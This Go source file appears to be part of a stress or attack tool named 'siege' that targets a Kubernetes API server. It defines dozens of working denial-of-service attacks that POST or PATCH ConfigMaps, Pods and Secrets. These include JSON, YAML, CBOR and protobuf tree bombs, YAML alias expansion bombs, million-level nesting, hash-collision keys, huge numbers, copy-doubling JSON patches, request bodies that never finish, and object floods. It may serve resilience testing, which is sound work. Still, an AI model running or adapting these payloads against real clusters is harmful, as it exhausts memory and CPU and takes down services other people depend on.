package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"strings"
	"time"
)

// Attacks with bodies: small ones that become large trees, large errors or long computations, and large ones that never end.

const (
	jsonType     = "application/json"
	protobufType = "application/vnd.kubernetes.protobuf"
	yamlType     = "application/yaml"
	cborType     = "application/cbor"
	jsonPatch    = "application/json-patch+json"
	mergePatch   = "application/merge-patch+json"
	strategic    = "application/strategic-merge-patch+json"
	applyPatch   = "application/apply-patch+yaml"
	treeBytes    = 2_600_000
)

func configMap(metadata, rest string) string {
	return `{"kind":"ConfigMap","apiVersion":"v1","metadata":{"generateName":"siege-"` + metadata + `}` + rest + `}`
}

func repeat(n int, item string) string {
	return strings.TrimSuffix(strings.Repeat(item+",", n), ",")
}

// posting is an attack that creates a ConfigMap with one body again and again.
func posting(name, account string, quick float64, writers int, contentType, what string, body func() string) attack {
	return attack{Name: name, Account: account, Quick: quick, What: what, run: func(ctx context.Context, g *ground) {
		text := body()
		g.send(ctx, g.amount(writers), "POST", groundPath+"/configmaps", contentType, func(int) string { return text })
	}}
}

// patching is an attack that patches a ConfigMap, which does not take it, or takes it again and again.
func patching(name, account string, quick float64, writers int, contentType, what string, body func() string) attack {
	return attack{Name: name, Account: account, Quick: quick, What: what, run: func(ctx context.Context, g *ground) {
		text := body()
		path := groundPath + "/configmaps/target"
		if contentType == applyPatch {
			path = groundPath + "/configmaps/applied?fieldManager=siege&force=true"
		}
		g.send(ctx, g.amount(writers), "PATCH", path, contentType, func(int) string { return text })
	}}
}

func tree() string { return `[` + repeat(treeBytes/9, `{"a":11}`) + `]` }

func init() {
	attacks = append(attacks,
		posting("owner-references", "answers", 5, 2, jsonType, "3,000 ownerReferences that all say controller: each fault names all of them",
			func() string {
				var b strings.Builder
				for i := range 3000 {
					fmt.Fprintf(&b, `,{"apiVersion":"v1","kind":"Pod","name":"o%d","uid":"u-%d","controller":true}`, i, i)
				}
				return configMap(`,"ownerReferences":[`+b.String()[1:]+`]`, "")
			}),
		posting("many-owners", "trees", 5, 2, jsonType, "45,000 distinct ownerReferences", func() string {
			var b strings.Builder
			for i := range 45_000 {
				fmt.Fprintf(&b, `,{"apiVersion":"v1","kind":"A","name":"o%d","uid":"u%d"}`, i, i)
			}
			return configMap(`,"ownerReferences":[`+b.String()[1:]+`]`, "")
		}),
		posting("finalizers", "answers", 6, 2, jsonType, "100,000 empty finalizers, each of them a fault",
			func() string { return configMap(`,"finalizers":[`+repeat(100_000, `""`)+`]`, "") }),
		posting("finalizers-protobuf", "answers", 3, 2, protobufType, "the same in protobuf, 200 KB",
			func() string { return protobufConfigMap(bytes.Repeat([]byte{0x72, 0}, 100_000)) }),
		patching("finalizers-patch", "answers", 3, 2, jsonPatch, "the same by JSON patch",
			func() string {
				return `[{"op":"add","path":"/metadata/finalizers","value":[` + repeat(100_000, `""`) + `]}]`
			}),
		posting("bad-labels", "answers", 0, 2, jsonType, "60,000 labels, the key and the value of each a fault", func() string {
			var b strings.Builder
			for i := range 60_000 {
				fmt.Fprintf(&b, `,"-%d":"- %d"`, i, i)
			}
			return configMap(`,"labels":{`+b.String()[1:]+`}`, "")
		}),
		posting("tree-bomb", "trees", 8, 2, jsonType, "2.6 MB of small objects where a string belongs",
			func() string { return configMap("", `,"data":{"a":`+tree()+`}`) }),
		posting("tree-bomb-unknown", "trees", 0, 2, jsonType, "2.6 MB of small objects in a field that does not exist",
			func() string { return configMap("", `,"unknown":`+tree()) }),
		patching("tree-bomb-merge", "trees", 4, 2, mergePatch, "the same as a merge patch", func() string { return `{"data":{"a":` + tree() + `}}` }),
		patching("tree-bomb-strategic", "trees", 0, 2, strategic, "the same as a strategic merge patch",
			func() string { return `{"data":{"a":` + tree() + `}}` }),
		patching("tree-bomb-jsonpatch", "trees", 0, 2, jsonPatch, "the same as the value of a JSON patch, and 60,000 operations", func() string {
			return `[` + repeat(60_000, `{"op":"test","path":"/kind","value":"ConfigMap"}`) + `]`
		}),
		patching("tree-bomb-apply", "trees", 0, 2, applyPatch, "30,000 keys applied", func() string {
			var b strings.Builder
			for i := range 30_000 {
				fmt.Fprintf(&b, "  k%d: v\n", i)
			}
			return "kind: ConfigMap\napiVersion: v1\nmetadata:\n  name: applied\ndata:\n" + b.String()
		}),
		posting("tree-deep", "trees", 0, 2, jsonType, "1,000,000 arrays in each other",
			func() string {
				return configMap("", `,"data":{"a":`+strings.Repeat("[", 1_000_000)+strings.Repeat("]", 1_000_000)+`}`)
			}),
		posting("tree-keys", "trees", 0, 2, jsonType, "300,000 distinct keys", func() string {
			var b strings.Builder
			for i := range 300_000 {
				fmt.Fprintf(&b, `,"%x":1`, i)
			}
			return configMap("", `,"unknown":{`+b.String()[1:]+`}`)
		}),
		posting("tree-colliding-keys", "trees", 3, 2, jsonType, "keys that all have one hash in Java, 16,384 of them", func() string {
			var b strings.Builder
			for i := range 1 << 14 {
				b.WriteString(`,"`)
				for bit := range 14 {
					b.WriteString([]string{"Aa", "BB"}[i>>bit&1])
				}
				b.WriteString(`":"v"`)
			}
			return configMap("", `,"data":{`+b.String()[1:]+`}`)
		}),
		posting("json-number", "", 3, 2, jsonType, "a number of 2.9 million digits, in JSON",
			func() string { return configMap("", `,"data":{"a":`+strings.Repeat("7", 2_900_000)+`}`) }),
		posting("yaml-number", "", 8, 2, yamlType, "a scalar of 2.9 million digits, in YAML",
			func() string {
				return "kind: ConfigMap\napiVersion: v1\nmetadata:\n  generateName: siege-\ndata:\n  a: " + strings.Repeat("7", 2_900_000) + "\n"
			}),
		posting("yaml-alias", "trees", 3, 4, yamlType, "aliases of aliases: 10^9 items in a kilobyte", func() string {
			var b strings.Builder
			b.WriteString("a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n")
			for i := 1; i < 9; i++ {
				fmt.Fprintf(&b, "a%d: &a%d [%s]\n", i, i, repeat(10, fmt.Sprintf("*a%d", i-1)))
			}
			return "kind: ConfigMap\napiVersion: v1\nmetadata:\n  generateName: siege-\n" + b.String()
		}),
		posting("yaml-alias-large", "trees", 0, 2, yamlType, "a string of 1 MB and 100,000 aliases of it", func() string {
			return "kind: ConfigMap\napiVersion: v1\nmetadata:\n  generateName: siege-\nx: &x " + strings.Repeat("x", 1_000_000) +
				"\ny: [" + repeat(100_000, "*x") + "]\n"
		}),
		posting("yaml-tree", "trees", 0, 2, yamlType, "2.6 MB of small flow collections, in YAML", func() string {
			return "kind: ConfigMap\napiVersion: v1\nmetadata:\n  generateName: siege-\ndata:\n  a: [" + repeat(treeBytes/5, "[a,]") + "]\n"
		}),
		posting("cbor-bomb", "trees", 3, 2, cborType, "2.6 million empty maps, in CBOR", func() string {
			return cborConfigMap("\x9f" + strings.Repeat("\xa0", treeBytes) + "\xff")
		}),
		posting("cbor-lengths", "trees", 0, 4, cborType, "arrays, maps and strings that claim 2^40 items and hold none", func() string {
			return cborConfigMap("\x9b\x00\x00\x01\x00\x00\x00\x00\x00" + "\xbb\x00\x00\x01\x00\x00\x00\x00\x00" + "\x7b\x00\x00\x01\x00\x00\x00\x00\x00")
		}),
		posting("protobuf-bomb", "trees", 4, 2, protobufType, "1.3 million empty ownerReferences, two bytes each",
			func() string { return protobufConfigMap(bytes.Repeat([]byte{0x6a, 0}, treeBytes/2)) }),
		patching("json-patch-copy", "trees", 4, 4, jsonPatch, "copies of copies: each operation doubles the object", func() string {
			ops := []string{`{"op":"add","path":"/data/a","value":"` + strings.Repeat("x", 1000) + `"}`}
			for range 40 {
				ops = append(ops, `{"op":"add","path":"/t","value":{}}`, `{"op":"copy","from":"/data","path":"/t/a"}`,
					`{"op":"copy","from":"/data","path":"/t/b"}`, `{"op":"move","from":"/t","path":"/data"}`)
			}
			return `[` + strings.Join(ops, ",") + `]`
		}),
		patching("json-patch-shift", "", 0, 2, jsonPatch, "10,000 insertions at the beginning of an array", func() string {
			return `[{"op":"add","path":"/metadata/finalizers","value":[]},` +
				repeat(9_999, `{"op":"add","path":"/metadata/finalizers/0","value":"a"}`) + `]`
		}),
		attack{Name: "strategic-merge", Account: "trees", Quick: 3, What: "12,000 environment variables merged by their names into as many",
			run: func(ctx context.Context, g *ground) {
				env := func(value string) string {
					var b strings.Builder
					for i := range 12_000 {
						fmt.Fprintf(&b, `,{"name":"E%d","value":"%s"}`, i, value)
					}
					return `{"name":"c","image":"i","env":[` + b.String()[1:] + `]}`
				}
				client := g.clients(1)[0]
				_, _ = g.ask(ctx, client, "POST", groundPath+"/pods", jsonType, strings.NewReader(
					`{"kind":"Pod","apiVersion":"v1","metadata":{"name":"merged"},"spec":{"containers":[`+env("v")+`]}}`))
				g.send(ctx, g.amount(2), "PATCH", groundPath+"/pods/merged", strategic, func(int) string {
					return `{"metadata":{"labels":{"l":"` + fmt.Sprint(rand.Uint32()) + `"}},"spec":{"containers":[` + env("w") + `]}}`
				})
			}},
		attack{Name: "bodies-open", Seconds: 8, Account: "request-bodies", Quick: 6, What: "bodies of 2.9 MB of which the last byte never comes, over HTTP/1.1 and HTTP/2",
			run: openBodies},
		attack{Name: "large-writes", Seconds: 8, Account: "request-bodies", Quick: 5, What: "Secrets of 1.4 MB, created and deleted by 16 writers",
			run: largeWrites},
		attack{Name: "deletecollection", Seconds: 8, Account: "answers", Quick: 5, What: "200 objects of 20 KB, created and deleted as a collection, again and again",
			run: deleteCollections},
		attack{Name: "many-objects", Seconds: 10, What: "small objects with ever new labels, as many as come through; deleted afterwards",
			run: manyObjects},
	)
}

// protobufConfigMap is the envelope of a ConfigMap with these fields in its metadata, and generateName.
func protobufConfigMap(metadata []byte) string {
	field := func(number int, b []byte) []byte {
		return append(binary.AppendUvarint([]byte{byte(number<<3 | 2)}, uint64(len(b))), b...)
	}
	meta := append(field(2, []byte("siege-")), metadata...)
	kind := append(field(1, []byte("v1")), field(2, []byte("ConfigMap"))...)
	return "k8s\x00" + string(field(1, kind)) + string(field(2, field(1, meta)))
}

// cborConfigMap is a self-described CBOR map with one more field, whose value is given.
func cborConfigMap(value string) string {
	text := func(s string) string { return string(rune(0x60+len(s))) + s }
	return "\xd9\xd9\xf7\xbf" + text("kind") + text("ConfigMap") + text("apiVersion") + text("v1") +
		text("metadata") + "\xa1" + text("generateName") + text("siege-") + text("x") + value + "\xff"
}

func openBodies(ctx context.Context, g *ground) {
	const size = 2_900_000
	piece := bytes.Repeat([]byte(" "), 16<<10)
	half := g.amount(40) / 2
	done := make(chan struct{})
	go func() {
		defer close(done)
		g.crowd(ctx, half, func(ctx context.Context, _ int) error {
			return g.h1(ctx, g.admin, func(c *tls.Conn) error {
				_, err := fmt.Fprintf(c, "POST %s/configmaps HTTP/1.1\r\nHost: x\r\n%sContent-Type: %s\r\nContent-Length: %d\r\n\r\n",
					groundPath, g.credential(), jsonType, size+1)
				for n := 0; err == nil && n < size; n += len(piece) {
					_, err = c.Write(piece[:min(len(piece), size-n)])
				}
				if err != nil {
					return err
				}
				g.count("bodies held", 1)
				return g.answers(c)
			})
		})
	}()
	clients := g.clients(max(1, half/4))
	g.crowd(ctx, half, func(ctx context.Context, i int) error {
		_, err := g.ask(ctx, clients[i%len(clients)], "POST", groundPath+"/configmaps", jsonType,
			io.MultiReader(&spaces{left: size}, waiter{ctx}))
		return err
	})
	<-done
}

// spaces is a body of so many spaces.
type spaces struct{ left int }

func (s *spaces) Read(p []byte) (int, error) {
	if s.left == 0 {
		return 0, io.EOF
	}
	n := min(len(p), s.left)
	for i := range p[:n] {
		p[i] = ' '
	}
	s.left -= n
	return n, nil
}

// waiter is the rest of a body, which never comes.
type waiter struct{ ctx context.Context }

func (w waiter) Read([]byte) (int, error) {
	<-w.ctx.Done()
	return 0, w.ctx.Err()
}

func secret(name string, size int) string {
	data := make([]byte, size)
	for i := 0; i < len(data); i += 8 {
		var b [8]byte
		binary.LittleEndian.PutUint64(b[:], rand.Uint64())
		copy(data[i:], b[:])
	}
	return `{"kind":"Secret","apiVersion":"v1","metadata":{"name":"` + name + `"},"data":{"payload":"` + base64.StdEncoding.EncodeToString(data) + `"}}`
}

func largeWrites(ctx context.Context, g *ground) {
	clients := g.clients(8)
	writers := g.amount(8)
	g.crowd(ctx, writers, func(ctx context.Context, i int) error {
		name := fmt.Sprintf("large-%d", i)
		c := clients[i%len(clients)]
		body := secret(name, 1_000_000)
		for ctx.Err() == nil {
			status, err := g.ask(ctx, c, "POST", groundPath+"/secrets", jsonType, strings.NewReader(body))
			if err != nil {
				return err
			}
			if status == 429 {
				pause(ctx, 50*time.Millisecond)
				continue
			}
			if _, err = g.ask(ctx, c, "DELETE", groundPath+"/secrets/"+name, "", nil); err != nil {
				return err
			}
		}
		return nil
	})
	g.tidy(clients[0], "secrets", "")
}

// tidy deletes what an attack has created, though its time is over.
func (g *ground) tidy(c *http.Client, collection, query string) {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	a, err := c.Do(g.srv.Request(ctx, "DELETE", groundPath+"/"+collection+query, nil))
	if err == nil {
		_, _ = io.Copy(io.Discard, a.Body)
		a.Body.Close()
	}
}

func deleteCollections(ctx context.Context, g *ground) {
	clients := g.clients(4)
	payload := strings.Repeat("d", 20_000)
	g.crowd(ctx, g.amount(2), func(ctx context.Context, i int) error {
		c := clients[i%4]
		for n := range 100 {
			body := `{"kind":"ConfigMap","apiVersion":"v1","metadata":{"generateName":"siege-","labels":{"siege":"collection` +
				fmt.Sprint(i) + `"}},"data":{"n":"` + fmt.Sprint(n) + `","p":"` + payload + `"}}`
			if _, err := g.ask(ctx, c, "POST", groundPath+"/configmaps", jsonType, strings.NewReader(body)); err != nil {
				return err
			}
		}
		_, err := g.ask(ctx, c, "DELETE", groundPath+"/configmaps?labelSelector=siege%3Dcollection"+fmt.Sprint(i), "", nil)
		return err
	})
	for i := range g.amount(2) {
		g.tidy(clients[0], "configmaps", "?labelSelector=siege%3Dcollection"+fmt.Sprint(i))
	}
}

func manyObjects(ctx context.Context, g *ground) {
	clients := g.clients(8)
	g.crowd(ctx, g.amount(16), func(ctx context.Context, i int) error {
		n := rand.Uint64()
		_, err := g.ask(ctx, clients[i%8], "POST", groundPath+"/configmaps", jsonType, strings.NewReader(fmt.Sprintf(
			`{"kind":"ConfigMap","apiVersion":"v1","metadata":{"generateName":"siege-","labels":{"siege":"many","l%x":"v%x"}}}`, n, n)))
		return err
	})
	g.tidy(clients[0], "configmaps", "?labelSelector=siege%3Dmany")
}
